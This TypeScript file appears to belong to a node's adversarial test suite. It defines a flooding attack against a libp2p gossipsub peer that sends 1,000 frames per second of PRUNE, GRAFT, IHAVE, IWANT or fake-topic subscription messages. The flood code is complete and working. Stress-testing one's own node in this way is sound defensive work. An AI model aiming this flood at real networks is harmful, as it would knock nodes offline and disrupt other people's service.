/** Gossip's own words as a flood: PRUNE, GRAFT, IHAVE, IWANT, or subscriptions to topics that nobody has; 1,000 frames/s. */
import { randomBytes } from "node:crypto";
import { RPC } from "@chainsafe/libp2p-gossipsub/message";
import { chainTopics } from "../../../src/network/messages.ts";
import { attacker, steadily } from "../wire/attacker.ts";
import { Persistent } from "../wire/persistent.ts";
import { specOf } from "../wire/spec.ts";

const framesPerSecond = 1_000;
const wordsPerFrame = 16;
/** Ids of messages are cheap: it takes more of them. */
const idsPerFrame = 256;
/** Made ahead and sent in turn: the node counts a word or an id whether it is new or not. */
const framesMade = 256;

const empty: RPC.ControlMessage = { ihave: [], iwant: [], graft: [], prune: [], idontwant: [] };

attacker(async (attack) => {
  const spec = specOf(attack.order);
  const topic = chainTopics(spec.chainId).blocks;
  const words = <Word>(make: () => Word) => Array.from({ length: wordsPerFrame }, make);
  const messageIDs = () => Array.from({ length: idsPerFrame }, () => new Uint8Array(randomBytes(20)));
  const kinds: Record<string, () => Partial<RPC>> = {
    prune: () => ({
      control: { ...empty, prune: words(() => ({ topicID: topic, peers: [], backoff: 60 })) },
    }),
    graft: () => ({ control: { ...empty, graft: words(() => ({ topicID: topic })) } }),
    ihave: () => ({ control: { ...empty, ihave: [{ topicID: topic, messageIDs: messageIDs() }] } }),
    iwant: () => ({ control: { ...empty, iwant: [{ messageIDs: messageIDs() }] } }),
    topics: () => ({
      subscriptions: words(() => ({ subscribe: true, topic: `/made-up/${randomBytes(16).toString("hex")}` })),
    }),
  };
  const frame = kinds[attack.order.variant];
  if (!frame) throw new Error(`there is no flood of ${attack.order.variant}`);
  const frames = Array.from({ length: framesMade }, () =>
    RPC.encode({ subscriptions: [], messages: [], ...frame() }),
  );
  const persistent = await Persistent.open(attack, { spec, topics: [topic] });
  await attack.begin();
  let sent = 0;
  await steadily(framesPerSecond, attack.signal, async (count) => {
    const open = await persistent.now();
    for (let index = 0; index < count; index += 1) {
      await open?.mouth.sendBytes(frames[sent++ % framesMade] as Uint8Array);
    }
    attack.count(count);
  });
});
